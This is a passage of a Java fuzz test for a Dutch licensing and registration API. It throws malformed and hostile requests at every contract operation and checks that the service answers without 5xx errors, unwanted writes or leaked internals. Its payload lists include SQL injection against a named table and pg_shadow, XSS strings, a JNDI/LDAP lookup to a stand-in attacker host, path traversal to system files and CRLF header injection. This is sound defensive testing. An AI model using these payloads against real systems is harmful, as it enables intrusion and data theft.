package nl.sekswerkregister.conventies;

import static nl.sekswerkregister.support.Api.als;
import static org.assertj.core.api.Assertions.assertThat;

import com.atlassian.oai.validator.OpenApiInteractionValidator;
import com.atlassian.oai.validator.model.Request;
import com.atlassian.oai.validator.model.SimpleResponse;
import com.atlassian.oai.validator.report.ValidationReport;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLFactory;
import io.agroal.api.AgroalDataSource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.io.ByteArrayOutputStream;
import java.io.File;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URL;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.SplittableRandom;
import java.util.TreeMap;
import java.util.UUID;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import nl.sekswerkregister.common.beveiliging.Rol;
import nl.sekswerkregister.support.Contract;
import nl.sekswerkregister.support.Personen;
import nl.sekswerkregister.support.Testdata;
import nl.sekswerkregister.support.Tokens;
import nl.sekswerkregister.support.Voorbeelden;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * A seeded generator throws malformed and hostile requests at every operation in the contract:
 * wrong types, huge strings, unicode edge cases, SQL and script fragments, negative and enormous
 * numbers, missing and duplicated fields, broken JSON, wrong content types, odd path and query
 * parameters and headers. Whatever arrives, the service never answers 5xx, never writes unless it
 * answers 2xx, and every error is valid problem+json without traces of its insides.
 *
 * <p>Each operation starts from a request that works (the contract's first request example, or
 * where a media type has none the one composed from its schema as documentation tools show it, real
 * ids created through the API, the role from the operation's description) and sends it once
 * unmutated, then {@value #STANDAARD_AANTAL} times with one to three random mutations. The
 * generator is a {@link SplittableRandom} seeded from {@code -Dfuzz.seed} (per operation mixed
 * with the operation's name, so one operation's run does not depend on the others); a failure
 * prints the seed and the exact request. {@code -Dfuzz.perOperatie} changes the count.
 *
 * <p>The fuzz requests bypass REST Assured and its global contract filter: they go over a raw
 * socket, byte for byte as generated (duplicate keys, lone surrogates, invalid UTF-8, malformed
 * percent escapes and unnormalised paths do not survive an HTTP client library). Responses are
 * still validated against the contract, by a validator of this class, and every deviation is a
 * finding. "Never writes" is checked after every request, not per batch: row counts and row versions of
 * every writable table (the processing log, dataverwerking, may grow by design and is left out).
 */
@QuarkusTest
class OngeldigeInvoerFuzzTest {

    static final long SEED = Long.getLong("fuzz.seed", 20261128L);
    static final int STANDAARD_AANTAL = 72;
    static final int AANTAL = Integer.getInteger("fuzz.perOperatie", STANDAARD_AANTAL);
    static final String GM = "GM0363";
    static final LocalDate VANDAAG = LocalDate.now(ZoneId.of("Europe/Amsterdam"));
    static final int MAX_BODY = 65_536;
    static final ObjectMapper JSON = new ObjectMapper();
    static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    static final Set<String> ROLLEN = Set.of(Rol.VERGUNNINGVERLENER, Rol.HANDHAVER, Rol.BELEIDSMEDEWERKER,
            Rol.AUDITOR, Rol.LANDELIJK_BEHEERDER, Rol.VERIFICATEUR);
    /** What an error body must never contain: traces of the implementation. */
    static final List<String> LEKKEN = List.of("java.", "jakarta.", "org.hibernate", "Exception", "org.postgresql",
            "io.vertx", "io.quarkus", "io.netty", "com.fasterxml", "at nl.sekswerkregister", "PSQL", "SQLState");
    /** Distinctive pieces of hostile input; finding one in an error body is a finding (errors never echo). */
    static final List<String> MERKTEKENS = List.of("<script", "1=1", "pg_shadow", "jndi:", "DROP TABLE", "onerror=",
            "{{7*7}}");
    /**
     * Tables a request could write to, as row count and the sum of the row versions' transaction
     * ids (xmin): an insert, update or delete changes it (vergunningnummer_reeks.laatste included;
     * idempotentie holds the keys of creating POSTs, analyseversie counts changes for the analysis).
     */
    static final String VINGERAFDRUK = Stream.of("exploitant", "vergunning", "besluit", "regelset", "landelijk_kader",
                    "registratie", "registratie_besluit", "vergunningnummer_reeks", "idempotentie", "analyseversie")
            .map(t -> "(select count(*) || ':' || coalesce(sum(xmin::text::bigint), 0) from " + t + ")")
            .collect(Collectors.joining(" || '/' || ", "select ", ""));

    static final OpenApiInteractionValidator CONTRACT =
            OpenApiInteractionValidator.createForSpecificationUrl("openapi/openapi.yaml").build();

    // Totals over all operations, for the summary after the run.
    static final AtomicInteger VERZOEKEN = new AtomicInteger();
    static final AtomicLong NANOS = new AtomicLong();
    static final AtomicLong CONTROLE = new AtomicLong();
    static final AtomicLong DB = new AtomicLong();
    static final Map<String, Integer> STATUSSEN = new ConcurrentHashMap<>();
    static final List<String> AANVAARD = java.util.Collections.synchronizedList(new ArrayList<>());
    static final List<String> ALLE_BEVINDINGEN = java.util.Collections.synchronizedList(new ArrayList<>());
    static final Map<String, String> TOKENS = new ConcurrentHashMap<>();
    static final AtomicInteger REGELSET_JAAR = new AtomicInteger(2200);

    @TestHTTPResource("/")
    URL server;

    @Inject
    AgroalDataSource dataSource;

    // ------------------------------------------------------------------------------------------
    // The operations, read from the contract
    // ------------------------------------------------------------------------------------------

    record QueryParameter(String naam, JsonNode schema) {
    }

    record Operatie(String methode, String sjabloon, String rol, String mediatype, JsonNode voorbeeld,
                    List<QueryParameter> query, boolean registratieKoppen, boolean ifMatch, boolean idempotent) {
        boolean heeftBody() {
            return voorbeeld != null;
        }

        boolean heeftPadParameters() {
            return sjabloon.contains("{");
        }

        @Override
        public String toString() {
            return methode.toUpperCase(Locale.ROOT) + " " + sjabloon;
        }
    }

    static Stream<Operatie> operaties() throws IOException {
        JsonNode contract = new ObjectMapper(new YAMLFactory()).readTree(new File("openapi/openapi.yaml"));
        List<Operatie> lijst = new ArrayList<>();
        // Paths are relative to the server URL (/api/v1); requests go to the whole path.
        String server = contract.path("servers").path(0).path("url").asText();
        contract.get("paths").fields().forEachRemaining(pad -> pad.getValue().fields().forEachRemaining(o -> {
            if (!Set.of("get", "post", "put", "patch", "delete").contains(o.getKey())) {
                return;
            }
            JsonNode op = o.getValue();
            List<QueryParameter> query = new ArrayList<>();
            boolean registratie = false;
            boolean ifMatch = false;
            boolean idempotent = false;
            for (JsonNode p : op.path("parameters")) {
                JsonNode param = Contract.los(contract, p);
                if ("query".equals(param.path("in").asText())) {
                    query.add(new QueryParameter(param.get("name").asText(), Contract.los(contract, param.path("schema"))));
                }
                registratie |= "X-Doelbinding".equals(param.path("name").asText());
                ifMatch |= "If-Match".equals(param.path("name").asText());
                idempotent |= "Idempotency-Key".equals(param.path("name").asText());
            }
            String mediatype = null;
            JsonNode voorbeeld = null;
            var inhoud = op.path("requestBody").path("content").fields();
            if (inhoud.hasNext()) {
                var eerste = inhoud.next();
                mediatype = eerste.getKey();
                String wat = o.getKey().toUpperCase(Locale.ROOT) + " " + pad.getKey();
                voorbeeld = Voorbeelden.van(contract, eerste.getValue())
                        .orElseThrow(() -> new IllegalStateException("geen voorbeeld voor " + wat));
            }
            lijst.add(new Operatie(o.getKey(), server + pad.getKey(), rol(op.path("description").asText()), mediatype,
                    voorbeeld, query, registratie, ifMatch, idempotent));
        }));
        assertThat(lijst).as("operaties in het contract").hasSizeGreaterThanOrEqualTo(30);
        return lijst.stream();
    }

    /** The first role in the operation's "**Rollen:**" line; null for a public operation. */
    static String rol(String beschrijving) {
        int i = beschrijving.indexOf("**Rollen:**");
        if (i < 0) {
            return Rol.VERGUNNINGVERLENER;
        }
        var m = java.util.regex.Pattern.compile("`([a-z-]+)`").matcher(beschrijving.substring(i, Math.min(
                beschrijving.length(), i + 300)));
        while (m.find()) {
            if (ROLLEN.contains(m.group(1))) {
                return m.group(1);
            }
        }
        return null;
    }

    // ------------------------------------------------------------------------------------------
    // The test
    // ------------------------------------------------------------------------------------------

    @ParameterizedTest(name = "{0}")
    @MethodSource("operaties")
    void vijandigeInvoerGeeftNooit5xxSchrijftNietsEnAntwoordtMetProblemJson(Operatie op) throws Exception {
        long seed = SEED ^ (op.toString().hashCode() * 0x9E3779B97F4A7C15L);
        Trekker random = new Trekker(seed);
        System.out.println("[fuzz] " + op + ": fuzz.seed=" + SEED + " (operatieseed " + seed + "), " + AANTAL
                + " mutaties");
        List<String> bevindingen = new ArrayList<>();
        try (Connection db = dataSource.getConnection()) {
            Basis basis = bereid(op);
            String stand = vingerafdruk(db);
            for (int i = 0; i <= AANTAL; i++) {
                Verzoek verzoek = basis.verzoek();
                if (i > 0) {
                    muteer(op, verzoek, random);
                } else if (op.idempotent()) {
                    // The working request always carries a fresh key, so that every keyed operation is
                    // sent a key at least once (keyed registrations once answered 500 unnoticed: random
                    // key mutations mostly came with other faults that were refused first).
                    verzoek.zet("Idempotency-Key", "fuzz-basis-" + UUID.randomUUID());
                }
                Antwoord antwoord;
                long start = System.nanoTime();
                try {
                    antwoord = verstuur(verzoek);
                } catch (IOException e) {
                    bevindingen.add(bevinding(op, "geen antwoord (" + e + ")", verzoek, null));
                    continue;
                } finally {
                    NANOS.addAndGet(System.nanoTime() - start);
                    VERZOEKEN.incrementAndGet();
                }
                STATUSSEN.merge(String.valueOf(antwoord.status), 1, Integer::sum);
                long t1 = System.nanoTime();
                controleer(op, verzoek, antwoord, bevindingen, i == 0);
                long t2 = System.nanoTime();
                String na = vingerafdruk(db);
                if (i == 0 && op.idempotent() && antwoord.is2xx()) {
                    Antwoord herhaling = verstuur(verzoek);
                    controleer(op, verzoek, herhaling, bevindingen, true);
                    if (herhaling.status != antwoord.status || !"true".equals(herhaling.kop("Idempotent-Replayed"))) {
                        bevindingen.add(bevinding(op, "herhaling met dezelfde Idempotency-Key gaf " + herhaling.status
                                + " zonder Idempotent-Replayed", verzoek, herhaling));
                    }
                    if (!vingerafdruk(db).equals(na)) {
                        bevindingen.add(bevinding(op, "herhaling met dezelfde Idempotency-Key schreef in de database",
                                verzoek, herhaling));
                    }
                }
                CONTROLE.addAndGet(t2 - t1);
                DB.addAndGet(System.nanoTime() - t2);
                if (!na.equals(stand)) {
                    if (antwoord.is2xx() && !op.methode().equals("get")) {
                        if (i > 0) {
                            AANVAARD.add(op + " " + antwoord.status + " " + verzoek.mutaties);
                        }
                        if (op.heeftPadParameters()) {
                            // The request changed the resource it works on (a decision taken, a new
                            // ETag): start again from a fresh one. Collections need no such thing.
                            basis = bereid(op);
                            na = vingerafdruk(db);
                        }
                    } else {
                        bevindingen.add(bevinding(op, "schreef in de database bij status " + antwoord.status
                                + " (" + stand + " -> " + na + ")", verzoek, antwoord));
                    }
                    stand = na;
                } else if (antwoord.is2xx() && i > 0 && !op.methode().equals("get")) {
                    AANVAARD.add(op + " " + antwoord.status + " (niets geschreven) " + verzoek.mutaties);
                }
            }
        }
        ALLE_BEVINDINGEN.addAll(bevindingen);
        assertThat(bevindingen).as("fuzz.seed=" + SEED + " (herhaal met -Dfuzz.seed=" + SEED + "): "
                + bevindingen.size() + " bevindingen bij " + op + ":\n" + String.join("\n", ontdubbel(bevindingen)))
                .isEmpty();
    }

    @AfterAll
    static void samenvatting() throws IOException {
        List<String> regels = new ArrayList<>();
        regels.add("===== samenvatting (fuzz.seed=" + SEED + ", " + AANTAL + " mutaties per operatie) =====");
        regels.add(String.format(Locale.ROOT, "%d verzoeken, %.1f s op de draad, %.1f s controle, %.1f s database; "
                        + "statussen: %s", VERZOEKEN.get(), NANOS.get() / 1e9, CONTROLE.get() / 1e9, DB.get() / 1e9,
                new TreeMap<>(STATUSSEN)));
        regels.add(AANVAARD.size() + " gemuteerde schrijfverzoeken aanvaard (2xx; vijandige tekst is soms gewoon tekst):");
        AANVAARD.forEach(a -> regels.add("  " + a));
        regels.add(ALLE_BEVINDINGEN.size() + " bevindingen:");
        ALLE_BEVINDINGEN.forEach(b -> regels.add("  " + b));
        java.nio.file.Files.createDirectories(java.nio.file.Path.of("target"));
        java.nio.file.Files.write(java.nio.file.Path.of("target", "fuzz-rapport.txt"), regels, StandardCharsets.UTF_8);
        regels.stream().limit(2).forEach(r -> System.out.println("[fuzz] " + r));
        System.out.println("[fuzz] " + AANVAARD.size() + " gemuteerde schrijfverzoeken aanvaard, "
                + ALLE_BEVINDINGEN.size() + " bevindingen: zie target/fuzz-rapport.txt");
    }

    static List<String> ontdubbel(List<String> regels) {
        Map<String, Integer> aantal = new LinkedHashMap<>();
        for (String r : regels) {
            aantal.merge(r.lines().findFirst().orElse(r), 1, Integer::sum);
        }
        List<String> uit = new ArrayList<>();
        Set<String> gezien = new java.util.HashSet<>();
        for (String r : regels) {
            String kop = r.lines().findFirst().orElse(r);
            if (gezien.add(kop)) {
                uit.add((aantal.get(kop) > 1 ? "(" + aantal.get(kop) + "x) " : "") + r);
            }
            if (uit.size() >= 40) {
                uit.add("... (meer weggelaten)");
                break;
            }
        }
        return uit;
    }

    // ------------------------------------------------------------------------------------------
    // Checks on every answer
    // ------------------------------------------------------------------------------------------

    void controleer(Operatie op, Verzoek v, Antwoord a, List<String> bevindingen, boolean basisverzoek) {
        if (basisverzoek && !a.is2xx()) {
            bevindingen.add(bevinding(op, "het ongemuteerde verzoek faalt (status " + a.status + ")", v, a));
        }
        if (a.status >= 500) {
            bevindingen.add(bevinding(op, "5xx: " + a.status, v, a));
        } else if (a.status < 200 || (a.status >= 300 && a.status < 400)) {
            bevindingen.add(bevinding(op, "onverwachte status " + a.status, v, a));
        }
        if (v.grootte() > MAX_BODY && a.is2xx() && v.methode.equalsIgnoreCase(op.methode())) {
            bevindingen.add(bevinding(op, "body van " + v.grootte() + " bytes aanvaard boven de limiet", v, a));
        }
        if (transportweigering(v, a)) {
            // Refused by the HTTP layer before any routing (a request line over 16 KiB, headers over
            // 32 KiB, a URL that cannot be decoded; documented in the contract's info): no API answer
            // exists to check. The no-write check still applies.
            return;
        }
        if (a.status >= 400) {
            String type = a.kop("content-type");
            if (type == null || !type.toLowerCase(Locale.ROOT).startsWith("application/problem+json")) {
                bevindingen.add(bevinding(op, "fout " + a.status + " zonder application/problem+json (Content-Type: "
                        + type + ")", v, a));
            } else if (!v.methode.equals("HEAD")) {
                String probleem = probleemFout(a);
                if (probleem != null) {
                    bevindingen.add(bevinding(op, "ongeldig probleem bij " + a.status + ": " + probleem, v, a));
                }
            }
            for (String lek : LEKKEN) {
                if (a.body.contains(lek)) {
                    bevindingen.add(bevinding(op, "foutantwoord " + a.status + " bevat '" + lek + "'", v, a));
                }
            }
            String verzonden = v.alsTekst();
            for (String merk : MERKTEKENS) {
                if (verzonden.contains(merk) && a.body.contains(merk)) {
                    // Errors never repeat a value from the request (README, API conventions).
                    bevindingen.add(bevinding(op, "foutantwoord " + a.status + " herhaalt '" + merk + "' uit de invoer",
                            v, a));
                }
            }
        }
        String contract = contractafwijking(v, a);
        if (contract != null) {
            bevindingen.add(bevinding(op, "afwijking van het contract bij " + a.status + ": " + contract, v, a));
        }
    }

    static boolean transportweigering(Verzoek v, Antwoord a) {
        String tekst = v.alsTekst();
        int eersteRegel = tekst.indexOf(" | ");
        String regel = eersteRegel < 0 ? tekst : tekst.substring(0, eersteRegel);
        return (a.status == 414 && regel.length() > 16_384)
                || (a.status == 431 && tekst.length() > 32_768)
                // A URL with an undecodable %-escape, or a header value the HTTP parser refuses
                // (surrounding white space, control characters): the request never reaches the API.
                || (a.status == 400 && a.body.isEmpty() && (java.util.regex.Pattern.compile("%(?![0-9A-Fa-f]{2})")
                .matcher(regel).find() || v.koppen.stream().anyMatch(k -> k[1].matches("(?s).*([\\s]$|^[\\s]|[\\x00-\\x08\\x0a-\\x1f\\x7f]).*"))));
    }

    static String probleemFout(Antwoord a) {
        JsonNode p;
        try {
            p = JSON.readTree(a.body);
        } catch (IOException e) {
            return "body is geen JSON";
        }
        if (p == null || !p.isObject()) {
            return "body is geen JSON-object";
        }
        List<String> fouten = new ArrayList<>();
        for (String veld : List.of("type", "title", "detail")) {
            if (!p.path(veld).isTextual() || p.path(veld).asText().isBlank()) {
                fouten.add(veld + " ontbreekt");
            }
        }
        if (!p.path("status").isInt() || p.path("status").asInt() != a.status) {
            fouten.add("status " + p.path("status") + " is niet de HTTP-status " + a.status);
        }
        return fouten.isEmpty() ? null : String.join(", ", fouten);
    }

    static String contractafwijking(Verzoek v, Antwoord a) {
        Request.Method methode;
        try {
            methode = Request.Method.valueOf(v.methode);
        } catch (IllegalArgumentException e) {
            return null;
        }
        String pad = v.pad;
        if (a.status == 200 && pad.equals("/api/v1/openapi.json")) {
            // The contract itself (ContractDriftTest compares it); validating it against itself is slow.
            return null;
        }
        if (!pad.startsWith("/api/v1/") || pad.endsWith("/")) {
            // Trailing-slash paths are deliberately not routes (as in the Contract filter).
            return null;
        }
        SimpleResponse.Builder r = SimpleResponse.Builder.status(a.status).withBody(a.body);
        a.koppen.forEach((naam, waarde) -> r.withHeader(naam, waarde));
        ValidationReport rapport = CONTRACT.validateResponse(pad, methode, r.build());
        List<String> fouten = rapport.getMessages().stream()
                .filter(m -> m.getLevel() == ValidationReport.Level.ERROR)
                // A route the contract does not know (a mutated path or method): not validatable.
                .filter(m -> !m.getKey().endsWith("path.missing") && !m.getKey().endsWith("operation.notAllowed"))
                .map(m -> m.getKey() + ": " + m.getMessage())
                .toList();
        return fouten.isEmpty() ? null : String.join("; ", fouten);
    }

    static String bevinding(Operatie op, String wat, Verzoek v, Antwoord a) {
        return op + ": " + wat + "\n    mutaties: " + v.mutaties + "\n    verzoek:  " + knip(v.alsTekst(), 700)
                + (a == null ? "" : "\n    antwoord: " + a.status + " " + a.kop("content-type") + " " + knip(a.body, 500));
    }

    static String knip(String s, int max) {
        String zichtbaar = s.replace("\r\n", "\\r\\n ");
        return zichtbaar.length() <= max ? zichtbaar
                : zichtbaar.substring(0, max) + "...(" + zichtbaar.length() + " tekens)";
    }

    String vingerafdruk(Connection db) throws SQLException {
        try (Statement s = db.createStatement(); ResultSet r = s.executeQuery(VINGERAFDRUK)) {
            r.next();
            return r.getString(1);
        }
    }

    // ------------------------------------------------------------------------------------------
    // A working request per operation
    // ------------------------------------------------------------------------------------------

    /** What a working request needs: real ids, a fresh ETag, a body with fresh identities. */
    final class Basis {
        final Operatie op;
        final String pad;
        final ObjectNode body;
        final String etag;
        final List<String> query = new ArrayList<>();

        Basis(Operatie op, String pad, ObjectNode body, String etag) {
            this.op = op;
            this.pad = pad;
            this.body = body;
            this.etag = etag;
            for (QueryParameter q : op.query()) {
                switch (q.naam()) {
                    case "gemeenteCode" -> query.add("gemeenteCode=" + GM);
                    case "page" -> query.add("page=1");
                    case "pageSize" -> query.add("pageSize=20");
                    default -> {
                    }
                }
            }
        }

        Verzoek verzoek() {
            Verzoek v = new Verzoek();
            v.methode = op.methode().toUpperCase(Locale.ROOT);
            v.pad = pad;
            v.query.addAll(query);
            if (op.rol() != null) {
                v.zet("Authorization", "Bearer " + token(op.rol(), GM));
            }
            v.zet("Accept", "application/json");
            if (op.registratieKoppen()) {
                v.zet("X-Doelbinding", "Fuzztest van ongeldige invoer");
                v.zet("X-Verwerkingsactiviteit", "Contracttest met vijandige invoer");
            }
            if (op.ifMatch()) {
                v.zet("If-Match", etag);
            }
            if (body != null) {
                ObjectNode kopie = body.deepCopy();
                if (pad.equals("/api/v1/exploitanten") && kopie.has("kvkNummer")) {
                    kopie.put("kvkNummer", Testdata.nieuwKvkNummer());
                }
                if (pad.equals("/api/v1/registraties")) {
                    vervangIdentificaties(kopie);
                }
                v.json = kopie;
                v.zet("Content-Type", op.mediatype());
            }
            return v;
        }
    }

    Basis bereid(Operatie op) {
        String pad = op.sjabloon().replace("{gemeenteCode}", GM).replace("{kaderCode}", "wrs-wetsvoorstel");
        ObjectNode body = op.heeftBody() ? (ObjectNode) op.voorbeeld().deepCopy() : null;
        if (pad.contains("{exploitantId}") || (body != null && body.has("exploitantId"))) {
            String exploitant = Testdata.exploitant(GM);
            pad = pad.replace("{exploitantId}", exploitant);
            if (body != null && body.has("exploitantId")) {
                body.put("exploitantId", exploitant);
            }
        }
        if (pad.contains("{vergunningnummer}")) {
            // A decision or a correction needs an application; reading needs a decision to read.
            String nummer = op.methode().equals("get") ? Testdata.verleend(GM) : Testdata.aanvraag(GM);
            pad = pad.replace("{vergunningnummer}", nummer);
            if (pad.contains("{besluitId}")) {
                pad = pad.replace("{besluitId}", als(Rol.VERGUNNINGVERLENER, GM)
                        .get("/api/v1/vergunningen/" + nummer + "/besluiten").then().statusCode(200)
                        .extract().path("resultaten[0].id"));
            }
        }
        if (pad.contains("{versie}")) {
            int jaar = REGELSET_JAAR.incrementAndGet();
            int versie = als(Rol.VERGUNNINGVERLENER, GM).body(Map.of("geldigVanaf", jaar + "-01-01", "geldigTot",
                            jaar + "-12-31", "bron", "APV (fuzztest)", "regels", Map.of("minimumleeftijd", 21)))
                    .post("/api/v1/gemeenten/" + GM + "/regelsets").then().statusCode(201).extract().path("versie");
            pad = pad.replace("{versie}", String.valueOf(versie));
        }
        if (pad.contains("{registratienummer}")) {
            pad = pad.replace("{registratienummer}", registreer(Personen.bsn()));
        }
        if (body != null) {
            String persoon = vervangIdentificaties(body);
            if ((pad.equals("/api/v1/inzageverzoeken") || pad.equals("/api/v1/registraties/_zoek")) && persoon != null) {
                registreer(persoon);
            }
            if (pad.startsWith("/api/v1/vergunningen/") && body.has("beheerders")) {
                String bestaand = als(Rol.VERGUNNINGVERLENER, GM).get(pad).then().statusCode(200)
                        .extract().path("beheerders[0].pseudoniem");
                body.withArray("beheerders").forEach(b -> {
                    if (b.has("pseudoniem")) {
                        ((ObjectNode) b).put("pseudoniem", bestaand);
                    }
                });
            }
            maakDatumsActueel(body);
        }
        String etag = op.ifMatch()
                ? als(Rol.VERGUNNINGVERLENER, GM).get(pad).then().statusCode(200).extract().header("ETag") : null;
        return new Basis(op, pad, body, etag);
    }

    static String registreer(String bsn) {
        return als(Rol.VERGUNNINGVERLENER, GM).header("X-Doelbinding", "Fuzztest")
                .header("X-Verwerkingsactiviteit", "Fuzztest")
                .body(Map.of("gemeenteCode", GM, "identificatie", Map.of("bsn", bsn),
                        "geboortedatum", "1990-01-01", "intakedatum", VANDAAG.minusDays(1).toString()))
                .post("/api/v1/registraties").then().statusCode(201).extract().path("registratienummer");
    }

    /** Replaces every BSN and document number by a fresh one; returns the (last) new BSN. */
    static String vervangIdentificaties(JsonNode node) {
        String laatste = null;
        if (node.isObject()) {
            ObjectNode object = (ObjectNode) node;
            if (object.has("bsn")) {
                laatste = Personen.bsn();
                object.put("bsn", laatste);
            }
            if (object.path("document").has("nummer")) {
                ((ObjectNode) object.get("document")).put("nummer", "F" + Math.floorMod(System.nanoTime(), 100_000_000L));
            }
        }
        for (JsonNode kind : node) {
            String gevonden = vervangIdentificaties(kind);
            laatste = gevonden == null ? laatste : gevonden;
        }
        return laatste;
    }

    static void maakDatumsActueel(ObjectNode body) {
        if (body.has("ingangsdatum")) {
            body.put("ingangsdatum", VANDAAG.toString());
        }
        if (body.has("intakedatum")) {
            body.put("intakedatum", VANDAAG.minusDays(1).toString());
        }
        if (body.has("geldigTot") && LocalDate.parse(body.get("geldigTot").asText()).isBefore(VANDAAG.plusYears(1))) {
            body.put("geldigTot", VANDAAG.plusYears(5).toString());
        }
    }

    static String token(String rol, String gemeente) {
        return TOKENS.computeIfAbsent(rol + "@" + gemeente, k -> Tokens.voor(rol, gemeente));
    }

    // ------------------------------------------------------------------------------------------
    // Mutations
    // ------------------------------------------------------------------------------------------

    enum Soort {
        // on the JSON tree
        TYPE(1, true), VIJANDIGE_TEKST(1, true), GETAL(1, true), WEGLATEN(1, true), LEEG_OBJECT(1, true),
        ONBEKEND_VELD(1, true), DUBBEL_VELD(1, true), DIEPE_NESTING(1, true),
        // on the body's text or bytes
        KAPOTTE_JSON(2, true), ANDERE_JSON_WAARDE(2, true), ONGELDIGE_UTF8(2, true), TE_GROOT(2, true),
        // on the request
        CONTENT_TYPE(3, true), PADPARAMETER(3, false), PADVORM(3, false), QUERYWAARDE(3, false),
        ONBEKENDE_QUERY(3, false), RUWE_QUERY(3, false), ACCEPT(3, false), AUTORISATIE(3, false),
        DOELBINDING(3, false), IF_MATCH(3, false), IDEMPOTENTIE(3, false), TRACEPARENT(3, false), METHODE(3, false),
        KOPPEN(3, false);

        final int fase;
        final boolean body;

        Soort(int fase, boolean body) {
            this.fase = fase;
            this.body = body;
        }
    }

    static final List<Object> VERKEERDE_TYPES = List.of(0, -1, 3.14, true, false, "tekst", "", List.of(),
            List.of(1, "a"), Map.of(), Map.of("a", 1), NODES.nullNode());

    /** Hostile text by kind; a mutation picks a kind first, so that each kind comes up evenly. */
    static final Map<String, List<String>> VIJANDIG = new LinkedHashMap<>();

    static {
        VIJANDIG.put("sql", List.of("' or 1=1 --", "'; DROP TABLE exploitant; --", "\" OR \"\"=\"",
                "1' UNION SELECT usename FROM pg_shadow --", "%' AND 1=(SELECT pg_sleep(0)) --", "\\'; --"));
        VIJANDIG.put("script", List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
                "javascript:alert(1)", "{{7*7}}", "${7*7}", "#{7*7}", "${jndi:ldap://aanvaller.example/a}", "%s%s%s%n",
                "../../../../etc/passwd", "..\\..\\windows\\win.ini", "a\r\nX-Ingevoegd: ja"));
        VIJANDIG.put("stuurtekens", List.of("a\u0000b", "\u0000", "GM0363\u0000", "\u0001\u001F\u007F", "\u0085",
                "\u2028\u2029", "\u001B[31mrood"));
        VIJANDIG.put("unicode", List.of("\u202Eexe.gnp", "\u200B\u200C\u200D\u2060\uFEFF", "\uFEFF",
                "\uD83D\uDCA5\uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
                "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349", "\uFDFA",
                "\u01C4", "\u0130", "\u00DF", "\uFF10\uFF11\uFF12\uFF13\uFF14\uFF15\uFF16\uFF17",
                "\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668", "GM0363 ", "gm0363", "\uFF27\uFF2D0363"));
        VIJANDIG.put("leeg", List.of("", " ", "\t", "null", "undefined", "true", "-1", "NaN"));
        VIJANDIG.put("datums", List.of("2026-02-30", "2026-13-01", "0000-00-00", "+999999999-12-31", "-999999999-01-01",
                "+300000-01-01", "0000-01-01", "-0001-12-31", "1970-01-01T00:00:00Z", "25:61", "24:00", "-01:00"));
        VIJANDIG.put("lengte", List.of("a".repeat(256), "x".repeat(1001), "\u00E9".repeat(10_000), "a".repeat(100_000),
                "\uD83D\uDE00".repeat(20_000)));
    }

    static final List<String> SOORTEN_TEKST = List.of("sql", "script", "stuurtekens", "unicode", "leeg", "datums",
            "lengte", "ruw");
    static final List<String> VIJANDIGE_TEKSTEN = VIJANDIG.values().stream().flatMap(List::stream).toList();

    /** Hostile header values: the short ones (headers are limited in size anyway). */
    static final List<String> KOPTEKSTEN = VIJANDIGE_TEKSTEN.stream().filter(t -> t.length() < 100).toList();

    /** Raw JSON text, placed where a value goes: lone surrogates, tokens JSON does not allow, big numbers. */
    static final List<String> RUWE_TEKSTEN = List.of("\"\\uD800\"", "\"a\\uDC00b\"", "\"\\uD83D\"", "\"\\uDFFF\\uD800\"",
            "\"\\u0000\"", "\"a\u0000b\"", "\"a\u0001b\"", "\"regel\nnieuwe regel\"", "\"\\x41\"", "\"\\u12\"",
            "'enkele quotes'", "\"onafgesloten");

    static final List<String> GETALLEN = List.of("-1", "0", "-0", "1e309", "-1e309", "9223372036854775808",
            "-9223372036854775809", "1e-400", "2147483648", "-2147483649", "0.5", "1.0", "1E2", "NaN", "Infinity",
            "-Infinity", "00012", "+1", "0x10", ".5", "1.", "123456789012345678901234567890", "1" + "0".repeat(1200),
            "100000", "100001", "1000000000000");

    static final List<String> ONBEKENDE_VELDEN = List.of("status", "id", "versie", "__proto__", "constructor",
            "<script>alert(1)</script>", "' or 1=1 --", "\u0000", "", "\u202Ekey", "KvkNummer", "_links",
            "aangemaaktOp", "pseudoniem", "a".repeat(1000));

    static final List<String> PADWAARDEN = List.of("", "x", "..", "%2e%2e", "..%2F..%2Fexploitanten",
            "../../exploitanten", "%2F", "a%2Fb", "%252F", "%00", "GM0363%00", "%C0%AE%C0%AE", "%FF%FE",
            "%E2%80%AE", "%F0%9F%92%A5", "%ED%A0%80", "%27%20or%201%3D1%20--", "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "x".repeat(300), "x".repeat(5000), "x".repeat(100_000), "-1", "0", "1e3", "9223372036854775808",
            "99999999999999999999", "1.5", "0x10", "+1", "%201", "%20", "null", "undefined", "GM0363", "gm0363",
            "GM9999", "GM036", "GM03630", "%EF%BC%A7%EF%BC%AD0363", "GM0363-2026-000042", "GM0363-2026-999999",
            "gm0363-2026-000001", "00000000-0000-0000-0000-000000000000", "25B130DA-FF19-4081-8503-27E0F4D89C7A",
            "25b130daff194081850327e0f4d89c7a", "%7B25b130da-ff19-4081-8503-27e0f4d89c7a%7D", "ZZZZ-ZZZZ-ZZZ",
